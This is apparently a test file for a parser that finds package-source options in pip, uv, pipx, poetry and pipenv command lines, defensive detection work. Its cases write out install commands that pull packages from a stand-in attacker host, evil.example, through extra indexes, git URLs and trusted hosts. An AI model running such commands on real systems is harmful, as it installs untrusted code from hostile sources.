/** What a command line tells installers about sources, in each form that their option parsers take. */

import { describe, expect, test } from 'vitest'
import { readCommandLine } from '../../src/installers/command-line.ts'

function find(...commandLine: readonly string[]): string[] {
  return readCommandLine(commandLine).references.map(({ installer, kind, name, value }) =>
    `${installer} ${kind} ${name} ${value}`.replace('  ', ' '),
  )
}

const evil = 'http://evil.example/simple/'

describe('pip', () => {
  test.each([
    [`pip install --extra-index-url ${evil} foo`, `extra-index --extra-index-url ${evil}`],
    [`pip install --extra-index-url=${evil} foo`, `extra-index --extra-index-url ${evil}`],
    [`pip install foo --extra-index ${evil}`, `extra-index --extra-index-url ${evil}`],
    [`pip install --ind=${evil} foo`, `index --index-url ${evil}`],
    [`pip install --pypi-url ${evil} foo`, `index --pypi-url ${evil}`],
    [`pip install -i ${evil} foo`, `index -i ${evil}`],
    [`pip install -i${evil} foo`, `index -i ${evil}`],
    [`pip install -qUi${evil} foo`, `index -i ${evil}`],
    [`pip install -qi ${evil} foo`, `index -i ${evil}`],
    [`pip install -f ${evil} foo`, `find-links -f ${evil}`],
    [`pip install --find-links ./wheels foo`, 'find-links --find-links ./wheels'],
    [`pip install --no-index foo`, 'no-index --no-index true'],
    [`pip --proxy ${evil} install foo`, `proxy --proxy ${evil}`],
    [`pip install --trusted-host evil.example foo`, 'trusted-host --trusted-host evil.example'],
    [`pip install git+https://evil.example/foo`, 'repository git+https://evil.example/foo'],
    [`pip install -e git+https://evil.example/foo`, 'repository -e git+https://evil.example/foo'],
    [`pip install https://evil.example/foo.whl`, 'url https://evil.example/foo.whl'],
    [`pip install foo@https://evil.example/foo.whl`, 'url foo https://evil.example/foo.whl'],
    [`pip install -- foo -i ${evil}`, `url ${evil}`],
    [`pip install -- https://evil.example/foo.whl`, 'url https://evil.example/foo.whl'],
    [`pip install -r https://evil.example/r.txt`, 'url -r https://evil.example/r.txt'],
    [`pip download -d out -i ${evil} foo`, `index -i ${evil}`],
    [`pip --log install wheel -i ${evil} foo`, `index -i ${evil}`],
  ])('%s', (line, wanted) => {
    expect(find(...line.split(' '))).toEqual([`pip ${wanted}`])
  })

  test('a requirement with spaces in one word', () => {
    expect(find('pip', 'install', 'foo @ https://evil.example/foo.whl')).toEqual([
      'pip url foo https://evil.example/foo.whl',
    ])
  })

  test.each([
    'pip install foo bar>=1',
    'pip install --target -i foo',
    `pip install --log ${evil} foo`,
    `pip config set global.index-url ${evil}`,
    'pip --isolated install foo',
    'pip install -- --index-url',
    'pip',
    'pip install -i',
    'pip list -e',
  ])('%s: nothing', (line) => {
    const found = find(...line.split(' ')).filter((one) => one.includes('evil'))
    expect(found).toEqual([])
  })

  test.each([
    'pip3 install',
    'pip3.11 install',
    '/opt/venv/bin/pip install',
    'python -m pip install',
    'python3.12 -I -W ignore -m pip install',
    'python3 -Impip install',
    '/usr/bin/python3 /opt/venv/bin/pip install',
    'python3 pip.pyz install',
    'nice -n 10 pip install',
    'timeout 60 python3 -m pip install',
    'env FOO=1 pip install',
    'uv run pip install',
    'uv run --with foo -- pip install',
    'poetry run pip install',
    'pdm run python -m pip install',
    'pipenv run pip install',
  ])('is known as %s', (start) => {
    expect(find(...start.split(' '), '-i', evil)).toEqual([`pip index -i ${evil}`])
  })

  test.each([
    `sh -c pip`,
    `make -i ${evil}`,
    `python -c pip install`,
    `python script.py install`,
    `python -m build`,
  ])('%s is none', (start) => {
    expect(find(...start.split(' '), '-i', evil)).toEqual([])
  })

  test('files of requirements and constraints are for the caller to open', () => {
    const { includes } = readCommandLine([
      'pip',
      'install',
      '-r',
      'a.txt',
      '-rb.txt',
      '--constraint=c.txt',
      '--build-constraint',
      'd.txt',
    ])
    expect(includes.map(({ path }) => path)).toEqual(['a.txt', 'b.txt', 'c.txt', 'd.txt'])
  })
})

describe('other installers', () => {
  test.each([
    [`uv pip install --index own=${evil} foo`, `uv extra-index --index ${evil}`],
    [`uv add --default-index ${evil} foo`, `uv index --default-index ${evil}`],
    [`uv sync --index-url=${evil}`, `uv index --index-url ${evil}`],
    [`uv --directory x sync -i ${evil}`, `uv index -i ${evil}`],
    [
      `uv pip install --torch-backend auto torch`,
      'uv extra-index --torch-backend https://download.pytorch.org/whl/',
    ],
    [
      `uv run --with git+https://evil.example/x y`,
      'uv repository --with git+https://evil.example/x',
    ],
    [`uvx --from https://evil.example/x.whl y -i z`, 'uv url --from https://evil.example/x.whl'],
    [`uv tool run git+https://evil.example/x`, 'uv repository git+https://evil.example/x'],
    [`uv tool install git+https://evil.example/x`, 'uv repository git+https://evil.example/x'],
    [`pipx install git+https://evil.example/x`, 'pip repository git+https://evil.example/x'],
    [`pipx run --spec https://evil.example/x.whl y`, 'pip url --spec https://evil.example/x.whl'],
    [`pipx install --index-url ${evil} foo`, `pip index --index-url ${evil}`],
    [`poetry add git+https://evil.example/x`, 'poetry repository git+https://evil.example/x'],
    [`pdm add -e git+https://evil.example/x`, 'pdm repository -e git+https://evil.example/x'],
    [`pipenv install -i ${evil} foo`, `pipenv index -i ${evil}`],
    [`pipenv install --pypi-mirror ${evil}`, `pipenv index --pypi-mirror ${evil}`],
  ])('%s', (line, wanted) => {
    expect(find(...line.split(' '))).toEqual([wanted])
  })

  test.each(['pipx', 'pipenv'])('%s hands arguments on to pip', (program) => {
    const option = program === 'pipx' ? '--pip-args' : '--extra-pip-args'
    const installer = program === 'pipx' ? 'pip' : program
    expect(find(program, 'install', option, `-q --extra-index-url ${evil}`, 'foo')).toEqual([
      `${installer} extra-index --extra-index-url in ${option} ${evil}`,
    ])
  })

  test('an index by its name in the Pipfile is none of the command line', () => {
    expect(find('pipenv', 'install', '-i', 'private', 'foo')).toEqual([])
  })

  test.each([`uvx ruff --index ${evil}`, `pipx run black -i ${evil}`, `uv run x.py -i ${evil}`])(
    '%s: the options of what is run are not its own',
    (line) => {
      expect(find(...line.split(' '))).toEqual([])
    },
  )
})

describe('what stands before the installer', () => {
  test('a variable that env sets counts', () => {
    expect(find('env', `PIP_EXTRA_INDEX_URL=${evil}`, 'pip', 'install', 'foo')).toEqual([
      `pip extra-index PIP_EXTRA_INDEX_URL ${evil}`,
    ])
  })

  test.each([
    ['env -i pip install foo', 'env'],
    ['env - pip install foo', 'env'],
    ['env -u PIP_INDEX_URL pip install foo', 'env'],
    ['env --unset=UV_DEFAULT_INDEX uv sync', 'env'],
    ['sudo pip install foo', 'sudo'],
    ['nice sudo pip install foo', 'sudo'],
    ['uv run docker build .', 'docker'],
    ['env -u LANG pip install foo', undefined],
    ['env --ignore-signal pip install foo', undefined],
    ['pip install sudo', undefined],
  ])('%s: drops the variables: %s', (line, wanted) => {
    expect(readCommandLine(line.split(' ')).forgetful).toBe(wanted)
  })

  test('a command line that starts itself a thousand times over comes to an end', () => {
    const words = Array.from({ length: 20_000 }, () => ['nice', 'env']).flat()
    expect(readCommandLine([...words, 'pip', 'install', '-i', evil]).references).toEqual([])
    words.push(...Array.from({ length: 5000 }, () => ['uv', 'run', 'nice']).flat())
    expect(readCommandLine([...words, 'pip', 'install', '-i', evil]).references).toEqual([])
  })
})
